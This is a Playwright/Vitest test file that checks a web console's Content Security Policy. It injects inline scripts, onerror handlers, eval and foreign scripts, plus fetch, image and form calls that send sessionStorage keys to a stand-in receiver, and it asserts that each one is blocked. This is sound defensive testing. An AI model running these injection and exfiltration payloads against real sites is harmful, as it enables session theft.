import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { eventually } from "../support/eventually.ts";
import { useConsole } from "./console-under-test.ts";

const hookcast = useConsole();

/** A signed-in tab in which the policy may be broken: `openPage` fails the test when it is. */
async function openAttacked(): Promise<Page> {
  const signedIn = await hookcast.openSignedIn("policy");
  const page = await signedIn.context().newPage();
  await page.goto(hookcast.url);
  await page.evaluate(`
    window.stopped = [];
    document.addEventListener("securitypolicyviolation", (event) => {
      window.stopped.push(event.effectiveDirective);
    });`);
  return page;
}

const receiverUrl = () => JSON.stringify(hookcast.receiver.url);

test.each([
  [
    "an inline script",
    "script-src-elem",
    () => `const script = document.createElement("script");
      script.textContent = "window.ran = true";
      document.body.append(script);`,
  ],
  [
    "a handler in markup",
    "script-src-attr",
    () =>
      `document.body.insertAdjacentHTML("beforeend", "<img src='data:,' onerror='ran = true'>")`,
  ],
  [
    "text that is to be run",
    "script-src",
    // Later, since the test's own `evaluate` may.
    () => `setTimeout(() => window.eval("window.ran = true"))`,
  ],
  [
    "a script of another origin",
    "script-src-elem",
    () => `const script = document.createElement("script");
      script.src = ${receiverUrl()};
      document.body.append(script);`,
  ],
  [
    "a call that carries the key away",
    "connect-src",
    () => `fetch(${receiverUrl()}, { mode: "no-cors", body: JSON.stringify({ ...sessionStorage }), method: "POST" })
      .catch(() => undefined);`,
  ],
  [
    "a picture that carries the key away",
    "img-src",
    () => `new Image().src = ${receiverUrl()} + "?key"`,
  ],
  [
    "a form that carries the key away",
    "form-action",
    () => `const form = document.createElement("form");
      form.action = ${receiverUrl()};
      document.body.append(form);
      form.submit();`,
  ],
])("the browser stops %s", async (_what, directive, attack) => {
  const page = await openAttacked();
  // Nobody waits for what an attack answers; some of them throw.
  await page.evaluate(`void (() => { try { ${attack()} } catch {} })()`);
  await eventually(async () => await page.evaluate("window.stopped.length > 0"));
  expect(await page.evaluate("window.stopped")).toEqual([directive]);
  expect(await page.evaluate("window.ran")).toBeUndefined();
  expect(hookcast.receiver.deliveries).toEqual([]);
});

test("the browser shows the page in no frame", async () => {
  const signedIn = await hookcast.openSignedIn("policy");
  const page = await signedIn.context().newPage();
  const refused = page.waitForEvent("console", {
    predicate: (message) => message.text().includes("frame-ancestors"),
  });
  await page.setContent(`<iframe src="${hookcast.url}"></iframe>`);
  await refused;
  for (const frame of page.frames().slice(1)) {
    expect(await frame.getByRole("heading").count()).toBe(0);
  }
});
